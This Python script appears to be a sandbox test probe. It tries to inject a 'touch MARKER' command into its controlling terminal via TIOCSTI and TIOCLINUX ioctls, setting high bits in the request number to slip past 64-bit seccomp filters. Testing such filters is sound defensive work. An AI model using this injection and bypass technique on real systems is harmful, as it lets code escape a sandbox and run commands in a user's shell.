"""Tries to push input into its controlling terminal with TIOCSTI and TIOCLINUX (subcode 6,
paste selection), each with and without high bits set in the request number (the kernel only
looks at the low 32 bits; a filter comparing 64 bits would miss them). Uses the raw syscall so
nothing in Python truncates the request. Prints one JSON line per attempt:
{"request": "...", "ret": r, "errno": e}. The bytes it tries to inject would create MARKER."""
import ctypes
import json
import sys

SYS_ioctl = 16
TIOCSTI = 0x5412
TIOCLINUX = 0x541C

marker = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
payload = f"touch {marker}\n".encode()

for name, base in (("TIOCSTI", TIOCSTI), ("TIOCLINUX", TIOCLINUX)):
    for high in (0, 1 << 32, 0xFFFFFFFF00000000):
        request = ctypes.c_ulong(base | high)
        ok = 0
        err = 0
        if base == TIOCSTI:
            for byte in payload:
                c = ctypes.c_char(bytes([byte]))
                ctypes.set_errno(0)
                r = libc.syscall(ctypes.c_long(SYS_ioctl), ctypes.c_long(0), request,
                                 ctypes.byref(c))
                if r == 0:
                    ok += 1
                else:
                    err = ctypes.get_errno()
        else:
            arg = ctypes.c_char(bytes([6]))  # TIOCL_PASTESEL
            ctypes.set_errno(0)
            r = libc.syscall(ctypes.c_long(SYS_ioctl), ctypes.c_long(0), request, ctypes.byref(arg))
            ok = 1 if r == 0 else 0
            err = 0 if r == 0 else ctypes.get_errno()
        print(json.dumps({"request": f"{name}|{high:#x}", "succeeded": ok, "errno": err}))
